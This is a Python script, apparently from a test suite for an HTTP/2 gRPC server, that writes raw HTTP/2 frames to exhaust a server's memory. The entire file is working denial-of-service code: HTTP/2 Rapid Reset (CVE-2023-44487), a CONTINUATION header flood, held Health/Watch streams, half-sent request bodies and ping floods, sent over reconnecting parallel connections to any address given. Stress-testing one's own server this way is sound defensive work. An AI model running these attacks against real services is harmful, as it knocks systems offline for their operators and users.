# SPDX-License-Identifier: Apache-2.0
"""Peers that write HTTP/2 by hand to take a server's memory: attacks.py KIND ADDRESS SECONDS.

Two connections at a time, each opened anew when it is cut.
"""
import os
import socket
import sys
import threading
import time

from server import STREAM, frame, literal

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
WATCH = b"/grpc.health.v1.Health/Watch"
CHECK = b"/grpc.health.v1.Health/Check"


def headers(path):
    return b"".join(literal(*pair) for pair in [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
        (b"te", b"trailers"), (b"content-type", b"application/grpc")])


def rapid_reset(at):
    """Streams that are reset at once (CVE-2023-44487)."""
    return b"".join(frame(1, 4, 2 * i + 1, headers(CHECK)) + frame(3, 0, 2 * i + 1, (8).to_bytes(4, "big"))
                    for i in range(at, at + 500))


def continuation(at):
    """Headers without an end, each of another name."""
    more = b"".join(literal(b"x%08d" % (at * 100 + i), b"y" * 100) for i in range(100))
    return (frame(1, 0, 1, headers(CHECK)) if not at else b"") + frame(9, 0, 1, more) * 4


def watch(at):
    """Health/Watch streams."""
    return b"".join(frame(1, 4, 2 * i + 1, headers(WATCH)) + frame(0, 1, 2 * i + 1, b"\x00" + bytes(4))
                    for i in range(at, at + 90)) if at < 90 else b""


def half_sent(at):
    """Requests of which half comes."""
    return b"".join(frame(1, 4, 2 * i + 1, headers(STREAM))
                    + frame(0, 0, 2 * i + 1, b"\x00" + (200000).to_bytes(4, "big") + bytes(8000))
                    for i in range(at, at + 90)) if at < 90 else b""


def pings(at):
    """Pings, whose answers nobody reads."""
    del at
    return frame(6, 0, 0, bytes(8)) * 1000


ATTACKS = {"rapid_reset": (rapid_reset, 500, 1), "continuation": (continuation, 1, 1), "watch": (watch, 90, 300),
           "half_sent": (half_sent, 90, 70), "pings": (pings, 1, 1)}


def connect(address):
    if address.startswith("unix:"):
        peer = socket.socket(socket.AF_UNIX)
        peer.connect(address[len("unix:"):])
    else:
        host, port = address[len("tcp:"):].rsplit(":", 1)
        peer = socket.create_connection((host, int(port)))
    peer.settimeout(1)
    peer.sendall(PREFACE)
    return peer


def run(kind, address, end):
    make, step, held = ATTACKS[kind]
    pieces, peers, at = {}, [], 0
    while time.monotonic() < end:
        try:
            if not peers or (held > 1 and at):
                peers.append(connect(address))
                at = 0
                if len(peers) > held:
                    time.sleep(0.05)
                    peers.pop(0).close()
            if at not in pieces:
                pieces[at] = make(at)
            peers[-1].sendall(pieces[at])
            at += step
        except OSError:
            at = 0
            if peers:
                peers.pop().close()
            time.sleep(0.01)


def main(kind, address, seconds):
    end = time.monotonic() + float(seconds)
    threads = [threading.Thread(target=run, args=(kind, address, end)) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    os._exit(0)  # all at once, as a client that is killed


if __name__ == "__main__":
    main(*sys.argv[1:])
